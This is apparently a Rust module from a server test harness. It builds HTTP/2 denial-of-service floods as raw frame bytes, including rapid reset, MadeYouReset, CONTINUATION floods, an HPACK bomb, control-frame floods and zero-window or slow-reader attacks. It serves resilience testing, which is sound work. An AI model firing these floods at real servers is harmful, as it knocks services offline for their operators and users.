//! The attacks as bytes.

use crate::harness::{Frame, code, flag, frame_kind as kind, literals, request};

/// An attack: what each of its connections sends behind the preface.
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    /// Text inside `server { }`.
    pub(crate) conf: &'static str,
    pub(crate) bytes: Vec<u8>,
    /// The number of frames in it.
    pub(crate) frames: usize,
    /// The settings of the client.
    pub(crate) settings: Vec<(u16, u32)>,
    pub(crate) connections: usize,
    /// Whether it reads what the server sends.
    pub(crate) reads: bool,
}

/// Streams are numbered from 1.
fn stream(number: usize) -> u32 {
    2 * number as u32 + 1
}

fn get(number: usize, path: &str) -> Frame {
    let block = literals(&request("GET", path, ""));
    Frame::new(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream(number), block)
}

fn flood(name: &'static str, count: usize, make: impl Fn(usize) -> Vec<Frame>) -> Flood {
    let frames: Vec<Frame> = (0..count).flat_map(make).collect();
    let bytes = frames.iter().flat_map(Frame::bytes).collect();
    Flood {
        name,
        conf: "",
        bytes,
        frames: frames.len(),
        settings: Vec::new(),
        connections: 1,
        reads: true,
    }
}

fn posted(name: &'static str, count: usize, frame: &Frame) -> Flood {
    let block = literals(&request("POST", "/", ""));
    let post = Frame::new(kind::HEADERS, flag::END_HEADERS, 1, block);
    let conf = "client_max_body_size 0; proxy_request_buffering off;";
    let make = |at: usize| vec![if at == 0 { post.clone() } else { frame.clone() }];
    Flood { conf, ..flood(name, count, make) }
}

/// All attacks, in the order of `docs/http2.md`.
pub(crate) fn all() -> Vec<Flood> {
    const SETTINGS_INITIAL_WINDOW_SIZE: u16 = 4;
    let endless = |name, piece: Vec<u8>| {
        let head = Frame::new(kind::HEADERS, 0, 1, literals(&request("GET", "/", "")));
        let more = Frame::new(kind::CONTINUATION, 0, 1, piece);
        flood(name, 200_000, move |at| vec![if at == 0 { head.clone() } else { more.clone() }])
    };
    let bomb = |at: usize| {
        let mut block = literals(&request("GET", "/own", ""));
        if at == 0 {
            block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
            block.extend([b'v'; 4000]);
        } else {
            block.extend([0xbe; 12_000]);
        }
        let ends = flag::END_HEADERS | flag::END_STREAM;
        vec![Frame::new(kind::HEADERS, ends, stream(at), block)]
    };
    let thrash = |at: usize| {
        let mut block = vec![0x20, 0x3f, 0xe1, 0x1f];
        block.extend(literals(&request("GET", "/own", "")));
        for _ in 0..100 {
            block.extend([0x40, 1, b'x', 40]);
            block.extend([b'v'; 40]);
        }
        let ends = flag::END_HEADERS | flag::END_STREAM;
        vec![Frame::new(kind::HEADERS, ends, stream(at), block)]
    };
    let tiny = |at: usize| match at {
        0..100 => vec![get(at, "/file")],
        _ => vec![Frame::window(stream(at % 100), 1)],
    };
    let held = |count| flood("", count, |at| vec![get(at, "/file")]);
    let zero = vec![(SETTINGS_INITIAL_WINDOW_SIZE, 0)];
    vec![
        flood("rapid reset", 20_000, |at| {
            vec![get(at, "/hold"), Frame::reset(stream(at), code::CANCEL)]
        }),
        flood("MadeYouReset", 20_000, |at| vec![get(at, "/hold"), Frame::window(stream(at), 0)]),
        endless("CONTINUATION, empty", Vec::new()),
        endless("CONTINUATION, full", literals(&[("x", "y")]).repeat(3000)),
        flood("HPACK bomb", 1000, bomb),
        Flood { conf: "keepalive_requests 100000;", ..flood("table thrash", 2000, thrash) },
        flood("SETTINGS", 200_000, |at| vec![Frame::settings(&[(4, at as u32 % 60_000)])]),
        flood("PING", 200_000, |_| vec![Frame::new(kind::PING, 0, 0, *b"pingping")]),
        Flood {
            reads: false,
            ..flood("PING, unread", 200_000, |_| vec![Frame::new(kind::PING, 0, 0, *b"pingping")])
        },
        flood("PRIORITY", 200_000, |at| {
            vec![Frame::new(kind::PRIORITY, 0, stream(at), [0, 0, 0, 0, 200])]
        }),
        flood("WINDOW_UPDATE", 200_000, |_| vec![Frame::window(0, 1)]),
        flood("unknown frames", 200_000, |_| vec![Frame::new(77, 0, 0, [])]),
        posted("empty DATA", 200_000, &Frame::data(1, [], false)),
        posted("padded DATA", 200_000, &Frame::new(kind::DATA, flag::PADDED, 1, [0])),
        posted("DATA of one byte", 200_000, &Frame::data(1, [1], false)),
        flood("window overflow", 1000, |_| vec![Frame::window(0, 0x7fff_ffff)]),
        Flood { settings: zero.clone(), ..flood("windows of one byte", 50_000, tiny) },
        Flood { name: "windows of 0, one connection", settings: zero.clone(), ..held(100) },
        Flood { name: "windows of 0, 20 of them", settings: zero, connections: 20, ..held(100) },
        Flood { name: "slow readers, 20", connections: 20, reads: false, ..held(100) },
        Flood {
            conf: "keepalive_requests 1000000;",
            ..flood("100,000 streams", 100_000, |at| vec![get(at, "/own")])
        },
    ]
}
